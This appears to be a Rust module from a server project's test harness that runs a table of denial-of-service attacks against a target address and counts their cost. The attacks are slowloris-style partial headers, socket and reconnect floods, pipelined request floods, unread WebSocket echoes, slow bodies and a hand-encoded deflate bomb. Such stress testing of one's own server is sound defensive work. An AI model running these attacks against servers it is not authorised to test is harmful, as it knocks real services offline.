//! Attacks that any client can try on a server that listens on the open Internet.

use std::collections::VecDeque;
use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering::Relaxed};
use std::thread;
use std::time::Duration;

use throng_proto::ws::{self, Opcode};

use crate::wire::{Client, dial};

/// An attack, which lasts until it is stopped.
pub(super) struct Attack {
    /// A few words for the table.
    pub(super) name: &'static str,
    pub(super) run: fn(&Context<'_>),
}

/// The name of the row without an attack.
pub(super) const NONE: &str = "none";

/// The attacks, in the order of the table. The first does nothing, for comparison.
pub(super) const ATTACKS: &[Attack] = &[
    Attack { name: NONE, run: wait },
    Attack { name: "silent sockets, 2,000/s", run: silent },
    Attack { name: "half a head each, 2,000/s", run: half_heads },
    Attack { name: "reconnects, 2,000/s", run: reconnects },
    Attack { name: "pipelined HEAD /metrics", run: pipelined_heads },
    Attack { name: "pipelined 1-byte echoes", run: tiny_echoes },
    Attack { name: "200 members that do not read", run: slow_members },
    Attack { name: "40 unread echoes of 4 MiB", run: unread_echoes },
    Attack { name: "100 unread answers, pipelined", run: unread_answers },
    Attack { name: "40 unfinished messages", run: unfinished_messages },
    Attack { name: "deflate bombs, 4 MiB each", run: bombs },
    Attack { name: "200 slow bodies of 1 MiB", run: slow_bodies },
];

/// Sockets that an attacker keeps open at a time; the attacked server has fewer places.
const HELD: usize = 1500;
/// The pause of an attacker that opens 2,000 connections a second.
const CONNECT_PAUSE: Duration = Duration::from_micros(500);
/// The longest time for which a blocked write or read delays an attacker's end.
const POLL: Duration = Duration::from_millis(100);
/// The largest message that the server accepts by default.
const LARGE: usize = 4 << 20;

/// The address of an attack, and its cost.
pub(super) struct Context<'s> {
    pub(super) address: SocketAddr,
    pub(super) stop: &'s AtomicBool,
    pub(super) connections: AtomicU64,
    pub(super) bytes: AtomicU64,
}

impl Context<'_> {
    fn goes_on(&self) -> bool {
        !self.stop.load(Relaxed)
    }

    /// Opens a connection, if the server accepts it.
    fn dial(&self) -> Option<TcpStream> {
        let stream = dial(self.address).ok()?;
        self.prepare(&stream);
        Some(stream)
    }

    fn open(&self, path: &str, extensions: &str) -> Option<TcpStream> {
        let client = Client::open(self.address, path, extensions).ok()?;
        self.prepare(&client.stream);
        Some(client.stream)
    }

    fn open_many(&self, count: usize, path: &str) -> Vec<TcpStream> {
        (0..count).filter_map(|_| self.open(path, "")).collect()
    }

    fn prepare(&self, stream: &TcpStream) {
        self.connections.fetch_add(1, Relaxed);
        let _ = stream.set_write_timeout(Some(POLL));
        let _ = stream.set_read_timeout(Some(POLL));
    }

    /// Sends all of `bytes`; returns false at the end of the attack or of the connection.
    fn push(&self, mut stream: &TcpStream, mut bytes: &[u8]) -> bool {
        while !bytes.is_empty() {
            match stream.write(bytes) {
                Ok(sent) => {
                    self.bytes.fetch_add(sent as u64, Relaxed);
                    bytes = &bytes[sent..];
                }
                Err(error) if is_pause(error.kind()) => {}
                Err(_) => return false,
            }
            if !self.goes_on() {
                return false;
            }
        }
        true
    }

    /// Sends as much of `bytes` as the kernel accepts without waiting.
    fn push_some(&self, mut stream: &TcpStream, bytes: &[u8]) {
        let _ = stream.set_nonblocking(true);
        if let Ok(sent) = stream.write(bytes) {
            self.bytes.fetch_add(sent as u64, Relaxed);
        }
    }

    /// Sends `bytes` repeatedly, and reads the answers.
    fn flood(&self, stream: &TcpStream, bytes: &[u8]) {
        thread::scope(|scope| {
            scope.spawn(|| self.drain(stream));
            while self.push(stream, bytes) {}
        });
    }

    fn drain(&self, mut stream: &TcpStream) {
        let mut buffer = vec![0; 1 << 16];
        while self.goes_on() {
            match stream.read(&mut buffer) {
                Ok(0) => return,
                Ok(_) => {}
                Err(error) if is_pause(error.kind()) => {}
                Err(_) => return,
            }
        }
    }

    fn wait(&self) {
        while self.goes_on() {
            thread::sleep(POLL);
        }
    }
}

fn is_pause(kind: ErrorKind) -> bool {
    matches!(kind, ErrorKind::WouldBlock | ErrorKind::TimedOut | ErrorKind::Interrupted)
}

fn wait(context: &Context<'_>) {
    context.wait();
}

fn silent(context: &Context<'_>) {
    hold_many(context, b"");
}

fn half_heads(context: &Context<'_>) {
    hold_many(context, b"GET /echo HTTP/1.1\r\nHost: localhost\r\n");
}

fn hold_many(context: &Context<'_>, first: &[u8]) {
    let mut held = VecDeque::new();
    while context.goes_on() {
        if let Some(stream) = context.dial() {
            context.push_some(&stream, first);
            held.push_back(stream);
        }
        if held.len() > HELD {
            held.pop_front();
        }
        thread::sleep(CONNECT_PAUSE);
    }
}

fn reconnects(context: &Context<'_>) {
    thread::scope(|scope| {
        for _ in 0..2 {
            scope.spawn(|| {
                while context.goes_on() {
                    drop(context.open("/ws/storm", ""));
                    thread::sleep(2 * CONNECT_PAUSE);
                }
            });
        }
    });
}

fn pipelined_heads(context: &Context<'_>) {
    let requests = b"HEAD /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n".repeat(1_000);
    while context.goes_on() {
        if let Some(stream) = context.dial() {
            context.flood(&stream, &requests);
        }
    }
}

fn tiny_echoes(context: &Context<'_>) {
    let mut frames = Vec::new();
    (0..10_000).for_each(|_| ws::encode_masked(Opcode::Binary, b"x", [0; 4], &mut frames));
    while context.goes_on() {
        if let Some(stream) = context.open("/echo", "") {
            context.flood(&stream, &frames);
        }
    }
}

/// Small publications to members that do not read; closed members reconnect.
fn slow_members(context: &Context<'_>) {
    let mut frames = Vec::new();
    (0..100).for_each(|_| ws::encode_masked(Opcode::Binary, &[b'x'; 1024], [0; 4], &mut frames));
    let mut members = VecDeque::from(context.open_many(200, "/ws/attack"));
    thread::scope(|scope| {
        scope.spawn(|| {
            while context.goes_on() {
                members.pop_front();
                members.extend(context.open("/ws/attack", ""));
                thread::sleep(20 * CONNECT_PAUSE);
            }
        });
        while context.goes_on() {
            if let Some(publisher) = context.open("/ws/attack", "") {
                context.flood(&publisher, &frames);
            }
        }
    });
}

fn unread_echoes(context: &Context<'_>) {
    let mut message = Vec::new();
    ws::encode_masked(Opcode::Binary, &vec![0; LARGE], [0; 4], &mut message);
    hold_after(context, context.open_many(40, "/echo"), &message);
}

fn unread_answers(context: &Context<'_>) {
    let requests = b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n".repeat(1_000);
    let streams: Vec<_> = (0..100).filter_map(|_| context.dial()).collect();
    while context.goes_on() {
        streams.iter().for_each(|stream| context.push_some(stream, &requests));
        thread::sleep(POLL);
    }
}

fn unfinished_messages(context: &Context<'_>) {
    let head = ws::encode_header(Opcode::Binary, false, (LARGE - 1) as u64, Some([0; 4]));
    let mut start = head.to_vec();
    start.resize(start.len() + LARGE - 1, 0);
    hold_after(context, context.open_many(40, "/echo"), &start);
}

fn hold_after(context: &Context<'_>, streams: Vec<TcpStream>, bytes: &[u8]) {
    thread::scope(|scope| {
        for part in streams.chunks(10) {
            scope.spawn(|| part.iter().all(|stream| context.push(stream, bytes)));
        }
    });
    context.wait();
    drop(streams);
}

fn bombs(context: &Context<'_>) {
    let mut message = Vec::new();
    ws::encode_deflated(false, &bomb(LARGE), Some([0; 4]), &mut message);
    thread::scope(|scope| {
        for _ in 0..4 {
            scope.spawn(|| {
                while context.goes_on() {
                    let extensions = "Sec-WebSocket-Extensions: permessage-deflate\r\n";
                    if let Some(stream) = context.open("/echo", extensions) {
                        context.flood(&stream, &message);
                    }
                }
            });
        }
    });
}

/// Returns a deflated message of about `length` zeros (RFC 1951, fixed Huffman codes; RFC 7692
/// section 7.2.1): a zero, then copies of 258 bytes from one byte back, of 13 bits each.
fn bomb(length: usize) -> Vec<u8> {
    let mut bits = vec![false, true, false];
    // The literal 0 is 00110000, the first bit first.
    bits.extend([false, false, true, true, false, false, false, false]);
    for _ in 0..(length - 1) / 258 {
        // Length 258 is the code 285, 11000101; distance 1 is the code 0 of five bits.
        bits.extend([true, true, false, false, false, true, false, true]);
        bits.extend([false; 5]);
    }
    // The end of the block, and the header of the empty block whose rest is not sent.
    bits.extend([false; 7 + 3]);
    bits.chunks(8)
        .map(|byte| byte.iter().rev().fold(0, |all, &bit| all << 1 | u8::from(bit)))
        .collect()
}

fn slow_bodies(context: &Context<'_>) {
    let head = "POST /body HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1048576\r\n\r\n";
    let most = [head.as_bytes(), &[b'x'; 900_000]].concat();
    let streams: Vec<_> = (0..200).filter_map(|_| context.dial()).collect();
    for stream in &streams {
        context.push(stream, &most);
    }
    while context.goes_on() {
        streams.iter().for_each(|stream| context.push_some(stream, &[b'x'; 120]));
        thread::sleep(POLL);
    }
}

#[cfg(test)]
mod tests {
    use throng_proto::ws::deflate::Inflater;
    use throng_proto::ws::{Deflated, Event};

    use super::*;

    #[test]
    fn a_bomb_is_a_message_of_four_mebibytes_of_zeros() {
        let small = bomb(LARGE);
        assert!(small.len() < LARGE / 150);
        let message = Deflated { text: false, payload: &small };
        let mut inflater = Inflater::new();
        let Event::Binary(bytes) = inflater.inflate(message, None, LARGE).unwrap().event else {
            panic!("it is binary");
        };
        assert!(bytes.len() > LARGE - 258 && bytes.iter().all(|&byte| byte == 0));
    }
}
